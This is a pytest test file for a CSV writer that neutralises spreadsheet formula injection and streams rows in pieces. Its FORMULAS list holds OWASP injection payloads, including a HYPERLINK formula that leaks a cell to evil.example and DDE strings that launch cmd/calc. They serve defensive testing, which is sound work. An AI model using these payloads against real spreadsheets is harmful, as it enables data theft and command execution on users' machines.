"""seojobs.csvfile: the one CSV writer. Text that a spreadsheet would run as a formula gets a
leading ``'``; numbers we computed and ordinary text are written as they are; the csv module
quotes separators, quotes and line breaks so that no cell can start inside another."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from typing import Any

import pytest

from seojobs import csvfile

# OWASP's starters, the same after leading whitespace (spaces, tabs, line breaks, no-break
# and ideographic spaces), tab and CR on their own, NUL (ASVS 1.2.10), full-width forms.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "-1",  # text that looks like a negative number is still text from outside
    "+",
    "@",
    " =1+1",
    "   @SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n+1",
    "\u00a0=1+1",
    "\u3000-1+1",
    "\u2003@SUM(1)",
    "\tplain text",
    "\rplain text",
    "\x00plain text",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    " \uff1d1+1",
]
PLAIN = [
    "",
    "plain",
    "https://a.example/?q=-1&x=@y",
    "a=b",
    "indexed",
    "Not a document type search engines index (=hyperlink(...))",
    "*: noindex,follow",
    " plain after a space",
    "'=already text",
    "2026-01-02T03:04:05+00:00",
]


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_get_a_leading_quote(text: str) -> None:
    assert csvfile.neutralise(text) == "'" + text
    [[cell]] = parse(csvfile.Writer().line([text]))
    assert cell == "'" + text  # the whole text is kept, behind the guard


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_is_written_as_it_is(text: str) -> None:
    assert csvfile.neutralise(text) == text
    assert parse(csvfile.Writer().line([text, "x"])) == [[text, "x"]]


@pytest.mark.parametrize("number", [-1, -250, 0, 404, 10_000, -2.5, 0.25])
def test_numbers_we_computed_are_left_alone(number: float) -> None:
    line = csvfile.Writer().line([number, str(number)])
    assert parse(line) == [[str(number), "'" + str(number) if number < 0 else str(number)]]


def test_none_is_an_empty_cell() -> None:
    assert parse(csvfile.Writer().line([None, "a", None])) == [["", "a", ""]]


@pytest.mark.parametrize("value", [{"a": 1}, ["=1+1"], b"=1+1", object()])
def test_other_types_are_refused_rather_than_stringified(value: Any) -> None:
    with pytest.raises(TypeError):
        csvfile.Writer().line([value])


@pytest.mark.parametrize(
    "text",
    ["a,=1+1", 'a"=1+1', "a\n=1+1", "a\r\n@SUM(1)", "a;=1+1", 'x","=1+1'],
)
def test_separators_inside_a_cell_cannot_start_a_new_cell(text: str) -> None:
    assert parse(csvfile.Writer().line([text, "=2+2"])) == [[text, "'=2+2"]]


def test_lines_streams_the_header_then_each_row() -> None:
    rows = iter([["=1", 1], ["b", -2]])
    produced = csvfile.lines(["url", "count"], rows)
    assert next(produced) == "url,count\r\n"
    assert next(produced) == "'=1,1\r\n"
    assert list(rows) == [["b", -2]]  # rows are read one at a time, as lines are produced


def test_stream_sends_the_lines_in_pieces_made_as_the_rows_are_read() -> None:
    width = csvfile.PIECE // 10  # about ten rows fill a piece
    read: list[int] = []

    def rows() -> Iterator[list[csvfile.Cell]]:
        for n in range(25):
            read.append(n)
            yield ["x" * width, n]

    produced = csvfile.stream(["url", "count"], rows())
    first = next(produced)
    assert len(first) >= csvfile.PIECE and len(read) < 25  # not the whole document at once
    pieces = [first, *produced]
    assert len(pieces) == 3 and all(len(p) >= csvfile.PIECE for p in pieces[:-1])
    expected = csvfile.lines(["url", "count"], (["x" * width, n] for n in range(25)))
    assert "".join(pieces) == "".join(expected)


def test_stream_of_no_rows_is_the_header() -> None:
    assert list(csvfile.stream(["url", "count"], [])) == ["url,count\r\n"]
